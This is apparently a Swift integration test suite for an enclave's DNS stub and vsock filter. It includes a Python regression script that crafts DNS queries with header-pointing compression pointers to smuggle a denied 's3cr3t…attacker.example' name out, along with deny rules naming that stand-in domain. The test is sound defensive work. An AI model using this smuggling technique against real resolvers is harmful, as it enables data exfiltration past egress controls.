import Foundation
import Testing
import TestSupport

/// The DNS stub and the vsock filter end to end: the app resolves with its ordinary resolver
/// (glibc's getaddrinfo, /etc/resolv.conf) through the stub, emulated vsock and `enclave-init
/// parent`, which asks a dnsmasq in its own network namespace (the only place the test names
/// exist, with addresses of 198.18.0.0/15); and the app cannot create an AF_VSOCK socket.
@Suite(.serialized) struct DNSSandboxTests {
    let scratch: TemporaryDirectory
    let vsock: String

    init() throws {
        (scratch, vsock) = try Sandbox.scratchWithVsockDirectory()
    }

    /// `enclave-init parent` in a network namespace of its own whose only resolver is a dnsmasq
    /// (logging every query it gets) that knows `records` ("name,address"); both listening.
    private func parentWithDnsmasq(_ config: String, records: [String]) throws -> (SpawnedProcess, String) {
        let log = scratch.path + "/dnsmasq.log"
        let parent = try Sandbox.startParent(["--config", config], hostsFile: try Sandbox.privateHostsFile(),
                                             environment: ["ENCLAVE_INIT_VSOCK_DIR": vsock], ownNetwork: true,
                                             prelude: "dnsmasq --keep-in-foreground --no-resolv --no-hosts --listen-address=127.0.0.1 --bind-interfaces "
                                                + "--user=root --pid-file=\(scratch.path)/dnsmasq.pid --log-queries --log-facility=\(log) "
                                                + records.map { "--host-record=\($0) " }.joined() + "&")
        #expect(eventually { parent.stderrSoFar.contains("listening: dns") }, "\(parent.stderrSoFar)")
        #expect(eventually { FileManager.default.fileExists(atPath: scratch.path + "/dnsmasq.pid") })
        return (parent, log)
    }

    /// Ends the parent (if a test has not) and its dnsmasq.
    private func stop(_ parent: SpawnedProcess) {
        kill(parent.pid, SIGKILL)
        if let text = try? String(contentsOfFile: scratch.path + "/dnsmasq.pid", encoding: .utf8),
           let pid = pid_t(text.trimmingCharacters(in: .whitespacesAndNewlines)) { kill(pid, SIGKILL) }
    }

    /// A raw query from the app to the stub, printing the response code and the A records.
    static let rawQuery = """
        import socket, struct, sys
        def ask(name, qtype):
            labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\\0"
            query = struct.pack(">HHHHHH", 0x5151, 0x0100, 1, 0, 0, 0) + labels + struct.pack(">HH", qtype, 1)
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.settimeout(5)
            s.sendto(query, ("127.0.0.1", 53))
            answer = s.recv(4096)
            count = struct.unpack(">H", answer[6:8])[0]
            records, offset = [], len(query)
            for _ in range(count):
                rtype, _, _, length = struct.unpack(">HHIH", answer[offset + 2:offset + 12])
                if rtype == 1: records.append(socket.inet_ntoa(answer[offset + 12:offset + 16]))
                offset += 12 + length
            return "rcode=%d %s" % (answer[3] & 15, " ".join(records))
        print(ask(sys.argv[1], int(sys.argv[2])))
        """

    @Test func theAppResolvesThroughTheStubAndTheParentAndCannotUseVsock() throws {
        let out = scratch.path + "/out"
        try FileManager.default.createDirectory(atPath: out, withIntermediateDirectories: true)
        // The app runs as nobody: it must reach its script and write its findings.
        chmod(scratch.path, 0o755)
        chmod(out, 0o777)
        let config = try scratch.write("boot.json", """
            {"version": 1,
             "hosts": [{"names": ["mapped.internal"], "address": "127.0.0.9", "port": 80, "vsock_port": 8000, "remote": "127.0.0.1:9"}],
             "egress": {"port": 3128, "vsock_port": 8001, "allow": ["**.example.test"], "deny": ["blocked.example.test"]},
             "dns": {"vsock_port": 8053},
             "app": {"user": "nobody"}}
            """)
        let query = try scratch.write("query.py", Self.rawQuery)
        let (parent, dnsmasqLog) = try parentWithDnsmasq(config, records: ["api.example.test,198.18.0.10", "blocked.example.test,198.18.0.11"])
        defer { stop(parent) }

        let resolvConf = try Sandbox.privateResolvConf()
        let app = """
            cat /etc/resolv.conf > \(out)/resolv.conf
            python3 -c 'import socket; print(sorted({a[4][0] for a in socket.getaddrinfo("api.example.test", 443, socket.AF_INET)}))' > \(out)/api 2>&1
            python3 -c 'import socket; print(sorted({a[4][0] for a in socket.getaddrinfo("mapped.internal", 80, socket.AF_INET)}))' > \(out)/mapped 2>&1
            python3 \(query) mapped.internal 1 > \(out)/mapped-a
            python3 \(query) mapped.internal 28 > \(out)/mapped-aaaa
            python3 \(query) blocked.example.test 1 > \(out)/blocked
            python3 \(query) elsewhere.invalid 1 > \(out)/elsewhere
            python3 \(query) api.example.test 1 > \(out)/api-raw
            python3 -c 'import socket
            try:
                socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
                print("created")
            except PermissionError as e:
                print("PermissionError", e.errno)
            except OSError as e:
                print("OSError", e.errno)' > \(out)/vsock 2>&1
            sh -c 'grep -E "^(Seccomp|NoNewPrivs):" /proc/self/status; id -u' > \(out)/child-status
            """
        let enclave = try Sandbox.start(.pid1, ["--config", config, "--", "/bin/sh", "-c", app], environment: ["ENCLAVE_INIT_VSOCK_DIR": vsock],
                                        resolvConf: resolvConf)
        let result = enclave.wait(timeout: .seconds(60))
        Sandbox.expectEnded(result, .pid1, withCode: 0)
        let log = result?.stderr ?? ""

        // resolv.conf: the managed block first, the image's own nameserver commented out below it.
        let resolv = scratch.text("out/resolv.conf")
        #expect(resolv.hasPrefix("# BEGIN enclave-init\n") && resolv.contains("\nnameserver 127.0.0.1\n")
                && resolv.contains("# END enclave-init\n# disabled by enclave-init: nameserver 192.0.2.53\n"), "\(resolv)")
        #expect(log.contains("/etc/resolv.conf: nameserver 127.0.0.1 (rewritten in place: it is a mount point)"), "\(log)")
        // The app's own resolver, through the stub and the parent.
        #expect(scratch.text("out/api") == "['198.18.0.10']\n", "\(scratch.text("out/api"))\n\(log)")
        #expect(scratch.text("out/mapped") == "['127.0.0.9']\n", "\(scratch.text("out/mapped"))")
        #expect(scratch.text("out/api-raw") == "rcode=0 198.18.0.10\n", "\(scratch.text("out/api-raw"))")
        // Mapped names are the stub's own answer, with no AAAA; denied names never leave.
        #expect(scratch.text("out/mapped-a") == "rcode=0 127.0.0.9\n", "\(scratch.text("out/mapped-a"))")
        #expect(scratch.text("out/mapped-aaaa") == "rcode=0 \n", "\(scratch.text("out/mapped-aaaa"))")
        #expect(scratch.text("out/blocked") == "rcode=5 \n", "\(scratch.text("out/blocked"))")
        #expect(scratch.text("out/elsewhere") == "rcode=5 \n", "\(scratch.text("out/elsewhere"))")
        let asked = (try? String(contentsOfFile: dnsmasqLog, encoding: .utf8)) ?? ""
        #expect(asked.contains("query[A] api.example.test"), "\(asked)")
        #expect(!asked.contains("blocked.example.test") && !asked.contains("elsewhere.invalid") && !asked.contains("mapped.internal"), "\(asked)")
        // No vsock for the app, nor for what it starts, as another user.
        #expect(scratch.text("out/vsock") == "PermissionError 13\n", "\(scratch.text("out/vsock"))")
        #expect(scratch.text("out/child-status") == "NoNewPrivs:\t1\nSeccomp:\t2\n65534\n", "\(scratch.text("out/child-status"))")
        #expect(log.contains("dns stub: "), "\(log)")

        kill(parent.pid, SIGTERM)
        let parentLog = parent.wait(timeout: .seconds(10))?.stderr ?? ""
        #expect(parentLog.contains("dns vsock:any:8053: "), "\(parentLog)")
        #expect(!parentLog.contains(" 0 forwarded"), "\(parentLog)")
    }

    /// The attack an adversarial review found: a query whose question ends in a compression
    /// pointer into the header. The stub read one name there (an allowed one, with an extra
    /// label taken from the id), rewrote the id, and a resolver following the pointer read
    /// another: with the id's high byte now 0, the denied name itself. 300 such queries, one
    /// for each id the stub could give them, and none of the names may reach dnsmasq; then the
    /// same denied name sent straight to the parent's DNS port, as an enclave whose stub was
    /// bypassed would, is refused there by the same rule.
    static let pointerAttack = """
        import socket, struct, sys
        counts = {}
        for n in range(300):
            # id: high byte 1 (a one-byte label follows), low byte "z"; flags 0 end that label.
            head = struct.pack(">BBHHHHH", 1, ord("z"), 0x0000, 1, 0, 0, 0)
            labels = b"".join(bytes([len(p)]) + p for p in [b"s3cr3t-%04d" % n, b"attacker", b"example"])
            query = head + labels + b"\\xc0\\x00" + struct.pack(">HH", 1, 1)
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.settimeout(5)
            s.sendto(query, ("127.0.0.1", 53))
            try:
                rcode = s.recv(4096)[3] & 15
            except socket.timeout:
                rcode = "timeout"
            counts[rcode] = counts.get(rcode, 0) + 1
        print(" ".join("rcode=%s:%d" % (k, v) for k, v in sorted(counts.items(), key=str)))
        """

    @Test func aQuestionPointingIntoTheHeaderNeverCarriesADeniedNameOut() throws {
        let out = scratch.path + "/out"
        try FileManager.default.createDirectory(atPath: out, withIntermediateDirectories: true)
        let config = try scratch.write("boot.json", """
            {"version": 1,
             "egress": {"port": 3128, "vsock_port": 8001, "allow": ["198.18.0.0/15", "**.example.test"], "deny": ["**.attacker.example"]},
             "dns": {"vsock_port": 8053}}
            """)
        let attack = try scratch.write("attack.py", Self.pointerAttack)
        let query = try scratch.write("query.py", Self.rawQuery)
        let (parent, dnsmasqLog) = try parentWithDnsmasq(config, records: ["api.example.test,198.18.0.10"])
        defer { stop(parent) }

        let app = "python3 \(attack) > \(out)/attack 2>&1; python3 \(query) api.example.test 1 > \(out)/api"
        let enclave = try Sandbox.start(.pid1, ["--config", config, "--", "/bin/sh", "-c", app], environment: ["ENCLAVE_INIT_VSOCK_DIR": vsock],
                                        resolvConf: try Sandbox.privateResolvConf())
        let result = enclave.wait(timeout: .seconds(90))
        Sandbox.expectEnded(result, .pid1, withCode: 0)
        // Every crafted query is answered FORMERR by the stub; an honest one still resolves.
        #expect(scratch.text("out/attack") == "rcode=1:300\n", "\(scratch.text("out/attack"))\n\(result?.stderr ?? "")")
        #expect(scratch.text("out/api") == "rcode=0 198.18.0.10\n", "\(scratch.text("out/api"))")

        // The parent half, asked directly (a stub bypassed): the denied name is refused there,
        // and a compressed question is a format error there too.
        func askParent(_ question: [UInt8]) throws -> UInt8 {
            let socket = try BlockingSocket.connect(unixPath: vsock + "/3-8053")
            let message: [UInt8] = [0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0] + question + [0, 1, 0, 1]
            try socket.writeAll([UInt8(message.count >> 8), UInt8(message.count & 0xFF)] + message)
            var answer: [UInt8] = []
            while answer.count < 2 + 12 {
                let chunk = try socket.read(upTo: 2 + 12 - answer.count)
                guard !chunk.isEmpty else { throw BlockingSocket.Failure.system("the parent closed without an answer", 0) }
                answer += chunk
            }
            return answer[5] & 0x0F
        }
        let denied: [UInt8] = [6] + Array("s3cr3t".utf8) + [8] + Array("attacker".utf8) + [7] + Array("example".utf8) + [0]
        #expect(try askParent(denied) == 5, "REFUSED by the parent's own check")
        #expect(try askParent([3] + Array("api".utf8) + [0xC0, 0x00]) == 1, "FORMERR for a pointer in the question")

        let asked = (try? String(contentsOfFile: dnsmasqLog, encoding: .utf8)) ?? ""
        #expect(asked.contains("query[A] api.example.test"), "\(asked)")
        #expect(!asked.contains("attacker") && !asked.contains("s3cr3t"), "\(asked)")
        kill(parent.pid, SIGTERM)
        let parentLog = parent.wait(timeout: .seconds(10))?.stderr ?? ""
        #expect(parentLog.contains("refused s3cr3t.attacker.example from the enclave, which its stub should have refused"), "\(parentLog)")
    }

    /// Without an egress policy the app keeps vsock (and no filter is installed).
    @Test func withoutEgressTheAppIsNotFiltered() throws {
        let out = scratch.path + "/out"
        try FileManager.default.createDirectory(atPath: out, withIntermediateDirectories: true)
        let config = try scratch.write("plain.json", #"{"version": 1}"#)
        let enclave = try Sandbox.start(.pid1, ["--config", config, "--", "/bin/sh", "-c", "grep -E '^(Seccomp|NoNewPrivs):' /proc/self/status > \(out)/plain"])
        Sandbox.expectEnded(enclave.wait(timeout: .seconds(30)), .pid1, withCode: 0)
        #expect(scratch.text("out/plain") == "NoNewPrivs:\t0\nSeccomp:\t0\n", "\(scratch.text("out/plain"))")
    }
}
